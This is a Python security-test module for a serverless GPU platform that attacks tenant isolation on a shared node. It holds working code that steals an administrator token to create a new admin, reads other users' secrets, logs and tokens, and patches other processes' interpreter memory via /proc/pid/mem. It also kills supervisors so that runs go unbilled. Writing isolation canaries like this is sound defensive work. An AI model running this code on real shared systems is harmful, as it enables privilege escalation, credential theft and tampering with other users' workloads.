"""Attacks of a member of the team on the node and on other users: the list in "Why" of issue 27.

The functions travel with their code, because a sandbox shows no directory of these tests. They need nothing of this
package, so they also run with earlier versions of serverless-gpu. Their outcomes at 6f51c1b, through a server whose
runs share a uid:

    administrator-token    succeeded: the token of the member's run made a second administrator
    other-secret           succeeded: the file in /dev/shm was readable
    other-log              succeeded
    attempt-token          succeeded
    patch-zygote           succeeded: the next runs of the other user had the changed bytes in their interpreter
    end-supervisor         succeeded: the run ended as `supervisor_lost`, billed with 0.0 GPU seconds
"""

from __future__ import annotations

import glob
import json
import os
import re
import signal
import sys
import time
from urllib.request import Request, urlopen

ADMINISTRATOR, SECRET, LOG = "administrator-token", "other-secret", "other-log"
TOKEN, ZYGOTE, SUPERVISOR = "attempt-token", "patch-zygote", "end-supervisor"
ATTACKS = (ADMINISTRATOR, SECRET, LOG, TOKEN, ZYGOTE, SUPERVISOR)
"""Names of the attacks, as in the catalogue of `sgpu node canary`."""
OUTPUT, VALUE, PATCH = "output of the victim", "hunter2-hunter2", "PATCHED"
SUCCEEDED = "succeeded"


def be_victim(waits: bool = True) -> str:
    """Print a line and wait, with a secret. Return the start of `sys.copyright` of this interpreter."""
    print(OUTPUT, flush=True)
    if waits:
        time.sleep(100)
    return sys.copyright[:7]


def processes(home: str, name: str) -> list[int]:
    """Return the processes of a home with a name, and no process of another test. Raises OSError without one."""
    found: list[int] = []
    last: OSError = ProcessLookupError(f"no {name} of {home} is visible")
    for path in glob.glob("/proc/[0-9]*"):
        try:
            with open(f"{path}/comm", encoding="utf-8") as comm:
                if comm.read().strip() != name:
                    continue
            with open(f"{path}/cmdline", "rb") as cmdline:
                is_here = home.encode() in cmdline.read()
            if not is_here:  # A process whose variables are unreadable also has unreadable memory.
                with open(f"{path}/environ", "rb") as environ:
                    is_here = home.encode() in environ.read()
            if is_here:
                found.append(int(path.split("/")[2]))
        except OSError as error:
            last = error
    if not found:
        raise last
    return found


def attack(home: str, new_administrator: str) -> dict[str, str]:
    """Try the attacks on a node with a home. Return ``succeeded`` or the reason of the failure, by attack.

    The administrator's token makes a second administrator. The memory of each warm interpreter that this process can
    open is changed, also of the attacker's own. The next runs of the victim show if theirs was among them.
    """

    def contents(*patterns: str) -> list[bytes]:
        found: list[bytes] = []
        last: OSError = FileNotFoundError(f"no file {patterns[0]}")
        for pattern in patterns:
            for path in glob.glob(pattern):
                try:
                    with open(path, "rb") as file:
                        found.append(file.read(1 << 20))
                except OSError as error:
                    last = error
        if not found:
            raise last
        return found

    def make_administrator() -> None:
        profile = json.loads(contents(f"{home}/server.json")[0])
        token = contents(f"{home}/server/token")[0].decode().strip()
        body = json.dumps({"name": new_administrator, "role": "admin"}).encode()
        headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
        request = Request(f"{profile['url']}/api/v1/users", body, headers)
        urlopen(request, timeout=10).close()

    def read_secret() -> None:
        places = (f"{home}/runs/*/*/secrets/*", "/proc/[0-9]*/root/run/sgpu/secrets/*")
        found = contents("/dev/shm/sgpu-secrets-*/*", *places)
        if not any(VALUE.encode() in each for each in found):
            raise LookupError("no file has the value")

    def read_log() -> None:
        if not any(OUTPUT.encode() in each for each in contents(f"{home}/runs/*/*/logs/*")):
            raise LookupError("no file has the output")

    def read_token() -> None:
        records = [json.loads(each) for each in contents(f"{home}/runs/*/*/remote.json")]
        if not any(each["owner"] == "victim" and each["token"] for each in records):
            raise LookupError("no file has the token")

    def patch(pid: int) -> None:
        text = sys.copyright.encode()
        with (
            open(f"/proc/{pid}/maps", encoding="utf-8") as maps,
            open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory,
        ):
            for line in maps:
                place = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
                if place is None:
                    continue
                first, end = (int(each, 16) for each in place.groups())
                try:
                    memory.seek(first)
                    part = memory.read(min(end - first, 1 << 28))
                except (OSError, OverflowError, ValueError):
                    continue
                for match in re.finditer(re.escape(text), part):
                    memory.seek(first + match.start())
                    memory.write(PATCH.encode())

    def patch_zygotes() -> None:
        for pid in processes(home, "sgpu-zygote"):
            patch(pid)

    outcomes: dict[str, str] = {}
    for name, attempt in (
        (ADMINISTRATOR, make_administrator),
        (SECRET, read_secret),
        (LOG, read_log),
        (TOKEN, read_token),
        (ZYGOTE, patch_zygotes),
    ):
        try:
            attempt()
        except Exception as error:  # noqa: BLE001 - a refusal has many kinds
            outcomes[name] = f"{type(error).__name__}: {error}"
        else:
            outcomes[name] = SUCCEEDED
    return outcomes


def end_supervisor(home: str) -> str:
    """Kill each supervisor of a home that this process can find, also the own one. Return why that failed."""
    try:
        for pid in processes(home, "sgpu-supervisor"):
            os.kill(pid, signal.SIGKILL)
    except OSError as error:
        return f"{type(error).__name__}: {error}"
    time.sleep(30)  # The supervisor's end ends this run first.
    return SUCCEEDED
